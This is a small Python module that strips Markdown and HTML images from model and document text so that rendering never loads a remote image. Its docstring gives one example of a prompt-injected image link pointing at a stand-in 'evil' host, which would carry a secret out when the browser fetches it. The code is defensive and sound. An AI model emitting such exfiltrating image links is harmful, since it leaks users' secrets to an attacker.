"""Model and document text made safe to render: no image is ever loaded from it.

A prompt-injected ``![x](https://evil/?q=<secret>)`` in an answer would make the browser fetch
the URL, and so send what it carries, the moment the answer is drawn. Images become their alt text.
"""

from __future__ import annotations

import re

_INLINE_IMAGE = re.compile(r"!\[([^\]]*)\]\([^)]*\)")
# ![alt][ref], ![alt][] and ![alt] (the last two resolve against a [alt]: url definition).
_REFERENCE_IMAGE = re.compile(r"!\[([^\]]*)\](?:\[[^\]]*\])?")
_HTML_IMAGE = re.compile(r"<img\b[^>]*>", re.IGNORECASE)
_HTML_ALT = re.compile(r"""\balt\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))""", re.IGNORECASE)
_HTML_IMAGE_START = re.compile(r"<(img\b)", re.IGNORECASE)


def _html_alt(match: re.Match[str]) -> str:
    alt = _HTML_ALT.search(match.group(0))
    return next((g for g in alt.groups() if g), "") if alt else ""


def without_images(text: str) -> str:
    """Markdown and HTML images replaced by their alt text; links and other text unchanged."""
    text = _INLINE_IMAGE.sub(r"\1", text)
    text = _REFERENCE_IMAGE.sub(r"\1", text)
    text = _HTML_IMAGE.sub(_html_alt, text)
    # Whatever is left (nested brackets, an unclosed tag) can no longer start an image.
    text = text.replace("![", "!\\[")
    return _HTML_IMAGE_START.sub(r"&lt;\1", text)
